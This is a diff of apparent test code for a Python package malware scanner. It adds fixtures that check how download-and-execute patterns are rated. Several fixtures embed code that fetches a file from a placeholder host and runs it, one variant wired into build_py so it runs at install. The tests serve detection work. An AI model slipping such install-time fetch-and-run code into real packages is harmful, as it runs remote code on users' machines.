@@ -667,6 +667,27 @@ def test_urlretrieve_then_tar_at_install_is_not_download_execute() -> None:
     assert "intent.download-execute" not in rules(result, "high")
 
 
+_VERIFIED = """
+    import subprocess
+    from urllib.request import urlopen
+
+    def fetch_release(url, path):
+        with open(path, "wb") as f:
+            f.write(urlopen(url).read())
+        subprocess.check_call(["gpgv", "--keyring", "release.kbx", path + ".asc", path])
+"""
+
+
+def test_a_download_checked_with_gpgv_is_handled_as_data() -> None:
+    result = scan({"setup.py": "", "demo/__init__.py": "", "demo/fetch.py": _VERIFIED})
+    drops = [f for f in result.findings if f.rule == "intent.drop-payload"]
+    assert drops and {f.severity for f in drops} == {"medium"}
+    run = _VERIFIED.replace('["gpgv", "--keyring", "release.kbx", path + ".asc", path]', "[path]")
+    result = scan({"setup.py": "", "demo/__init__.py": "", "demo/fetch.py": run})
+    drops = [f for f in result.findings if f.rule == "intent.drop-payload"]
+    assert drops and {f.severity for f in drops} == {"high"}
+
+
 def test_host_identity_sent_to_a_url_built_on_a_fixed_host_is_suspicious() -> None:
     src = """
         import os, socket
@@ -1110,6 +1131,50 @@ def test_a_cmdclass_registered_as_build_still_runs_at_install() -> None:
         setup(name="demo", cmdclass={"upload": Fetch, "build_ext": Fetch})
     """
     assert scan({"setup.py": src}).verdict == "malicious"
+
+
+_OWN_COMMAND = """
+    import os
+    from urllib.request import urlopen
+    from setuptools import Command, setup
+    from setuptools.command.build_py import build_py
+
+    class UpdateDlls(Command):
+        user_options = []
+        def initialize_options(self): pass
+        def finalize_options(self): pass
+        def run(self):
+            os.makedirs("build", exist_ok=True)
+            with open("build/lib.7z", "wb") as f:
+                f.write(urlopen("https://dlls.example/latest.7z").read())
+            os.system("build/lib.7z")
+
+    cmdclass = {}
+    cmdclass["update_dlls"] = UpdateDlls
+    setup(name="demo", cmdclass=cmdclass)
+"""
+
+
+def test_a_projects_own_setup_command_runs_only_when_a_person_types_it() -> None:
+    """``python setup.py update_dlls``: a maintainer's command. Installers run egg_info, build,
+    install and their sub-commands, never a command of another name."""
+    result = scan({"setup.py": _OWN_COMMAND})
+    assert "intent.drop-payload" in rules(result)  # said, at the weight of code run on request
+    assert all(f.severity != "critical" for f in result.findings), worst(result)
+    assert result.verdict != "malicious"
+
+
+def test_an_own_command_that_a_build_command_runs_is_install_time() -> None:
+    chained = _OWN_COMMAND.replace(
+        "    cmdclass = {}\n",
+        "    class Build(build_py):\n"
+        "        def run(self):\n"
+        "            self.run_command('update_dlls')\n"
+        "            super().run()\n\n"
+        "    cmdclass = {'build_py': Build}\n",
+    )
+    assert "run_command('update_dlls')" in chained
+    assert scan({"setup.py": chained}).verdict == "malicious"
 
 
 def test_running_a_projects_configure_script_through_sh_is_a_build_step() -> None:
